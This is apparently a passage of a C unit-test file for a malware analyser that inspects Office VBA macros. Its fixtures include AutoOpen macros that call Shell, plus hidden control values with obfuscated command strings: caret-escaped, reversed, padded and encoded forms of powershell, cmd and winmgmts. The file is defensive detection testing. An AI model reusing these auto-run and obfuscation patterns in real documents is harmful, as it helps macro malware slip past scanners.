    struct tally *t = observe((const char *)b.at);
    assert_true(tally_has(t, R, "AutoOpen -> z -> WScript.Shell.Run"));
    assert_true(tally_has(t, FACT_VBA_REACH_KIND, "run"));
    assert_true(tally_has(t, OBJ, "wscript.shell"));
    assert_true(tally_has(t, URL, "http://example.invalid/last"));
    assert_non_null(tally_fact(t, FACT_VBA_IDENTITY));
    assert_true(t->r.n_facts < 600);
    tally_drop(&t);
    buf_drop(&b);
}

/* --- what stands in the places that the macro reads: a control on the page */

#define RUNS HEAD "Sub AutoOpen()\r\nShell Replace(Me.Box1.Text, x, y)\r\nEnd Sub\r\n"
#define READS HEAD "Sub AutoOpen()\r\nx = Me.Box1.Text\r\nEnd Sub\r\n"
#define OTHER HEAD "Sub AutoOpen()\r\nShell Me.Box2.Text\r\nEnd Sub\r\n"
#define TWENTY "QWERTYUIOPasdfghjkl1"

static const struct {
    const char *what, *source, *value, *kind; /* NULL: none */
} kept[] = {
    { "command", RUNS, "cmd /c example", "command" },
    { "program", RUNS, "C:\\x\\..\\cmd.exe /c example", "command" },
    { "class", RUNS, "WScript.Shell", "class" },
    { "address", RUNS, " http://example.invalid/ ", "url" },
    { "encoded", RUNS, TWENTY TWENTY TWENTY TWENTY TWENTY TWENTY TWENTY TWENTY, "encoded" },
    { "carets", RUNS, "p^o^w^e^r^s^h^e^l^l example", "command, escaped" },
    { "backwards", RUNS, "elpmaxe dnammoC- llehsrewop", "command, backwards" },
    { "filled", RUNS, "wXYZiXYZnXYZmXYZgXYZmXYZtXYZsXYZ:XYZexample", "command, filled" },
    { "filled with digits", RUNS, "80p80o80w80e80r80s80h80e80l80l80 80e80x80a80m80p80l80e", "command, filled" },
    { "in any case", RUNS, "PoWeRsHeLl example", "command" },
    { "words", RUNS, "a label that says nothing of the kind, at some length", NULL },
    { "path of a program", RUNS, "C:\\Program Files\\Example\\viewer.exe", NULL },
    { "one letter again and again", RUNS, "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", NULL },
    { "too short", RUNS, "cmd", NULL },
    { "empty", RUNS, "", NULL },
    { "macro runs nothing", READS, "cmd /c example", NULL },
    { "another control is read", OTHER, "cmd /c example", NULL },
};

static struct tally *observe_kept(const char *source, const char *value)
{
    struct buf module = buf_new(1 << 16), control = buf_new(1 << 16);
    slice v = slice_of(value);
    build_container(&module, slice_of(source));
    buf_put(&control, SLICE_LIT("\0\2\x20\0\0\0\x40\x80\0\0\0\0"));
    build_le(&control, v.len | 0x80000000, 4);
    buf_put(&control, v);
    const struct build_entry rows[] = {
        { BUILD_NONE, "Macros", { NULL, 0 } }, { 0, "VBA", { NULL, 0 } }, { 1, "ThisDocument", buf_slice(&module) },
        { BUILD_NONE, "ObjectPool", { NULL, 0 } }, { 3, "_1", { NULL, 0 } }, { 4, "contents", buf_slice(&control) },
        { 4, "\x03OCXNAME", SLICE_INIT("B\0o\0x\0" "1\0\0\0") },
    };
    struct image m = build_image(rows, sizeof rows / sizeof rows[0], (slice){ 0 });
    struct tally *t = tally_observed(&(struct tally_options){ 0 }, buf_slice(&m.bytes));
    tally_check(t);
    buf_drop(&m.bytes);
    buf_drop(&module);
    buf_drop(&control);
    return t;
}

static void kept_values_are_looked_at(void **state)
{
    (void)state;
    struct table all = { 0 };
    TABLE_EACH (&all, row, kept) {
        struct tally *t = observe_kept(row->source, row->value);
        table_true(&all, row->what, tally_has(t, FACT_VBA_ENTRY, "AutoOpen"));
        if (row->kind ? !tally_has(t, FACT_VBA_HIDDEN_VALUE_KIND, row->kind) : tally_facts(t, FACT_VBA_HIDDEN_VALUE_KIND) != 0)
            table_wrong(&all, row->what, "\"%.*s\"", SLICE_FMT(tally_text(t, FACT_VBA_HIDDEN_VALUE_KIND, 0)));
        tally_drop(&t);
    }
}

struct acting {
    struct observers observers;
    bool seen;
};

static void acting_view(void *host, struct walk *w, enum fact_id id, slice utf8, struct range at,
                        uint32_t event)
{
    struct acting *a = host;
    (void)event;
    observers_view(&a->observers, w, id, utf8, at);
}

static void acting_end(void *host, struct walk *w, enum walk_end how)
{
    struct acting *a = host;
    observers_end(&a->observers, w, how);
    a->seen = walk_is_acting(w);
}

/* Only what is certain to be a finding may keep the document's picture from being looked at. */
static void acting_is_noted(void **state)
{
    static const struct {
        const char *name, *source;
        bool acting;
    } rows[] = {
        { "starts by itself and runs", HEAD "Sub AutoOpen()\r\nShell x\r\nEnd Sub", true },
        { "the same over a call",
          HEAD "Sub AutoOpen()\r\nb\r\nEnd Sub\r\nSub b()\r\nShell x\r\nEnd Sub", true },
        { "nothing", HEAD, false },
        { "runs when it is asked to", HEAD "Sub Button1_Click()\r\nShell x\r\nEnd Sub", false },
        { "runs where nobody calls",
          HEAD "Sub AutoOpen()\r\nEnd Sub\r\nSub b()\r\nShell x\r\nEnd Sub", false },
        { "writes only", HEAD "Sub AutoOpen()\r\nOpen \"x\" For Output As #1\r\nEnd Sub", false },
        { "shows a message", HEAD "Sub AutoOpen()\r\nMsgBox \"x\"\r\nEnd Sub", false },
    };
    (void)state;
    struct table t = { 0 };
    TABLE_EACH (&t, row, rows) {
        struct acting a = { .seen = false };
        struct walk_hooks hooks = { .host = &a, .part_end = acting_end, .view = acting_view };
        struct tally_options o = { .format = "vba", .hooks = &hooks };
        struct tally *tally = tally_run(&o, slice_of(row->source));
        table_true(&t, row->name, a.seen == row->acting);
        tally_drop(&tally);
    }
}

static void memory_runs_out(void **state)
{
    (void)state;
    for (size_t n = 1; n < 120; n++) {
        struct tally *t = tally_observed(&(struct tally_options){ .format = "vba", .fail_at = n }, SLICE_LIT(HEAD LIVE));
        tally_check(t);
        tally_drop(&t);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(macros_are_understood),
        cmocka_unit_test(lines_are_told),
        cmocka_unit_test(measures_apply),
        cmocka_unit_test(identity_is_of_the_shape),
        cmocka_unit_test(hostile_sizes),
        cmocka_unit_test(crowds_hide_nothing),
        cmocka_unit_test(kept_values_are_looked_at),
        cmocka_unit_test(acting_is_noted),
        cmocka_unit_test(memory_runs_out),
    };
    cmocka_set_message_output(CM_OUTPUT_TAP);
    return cmocka_run_group_tests(tests, NULL, NULL);
}
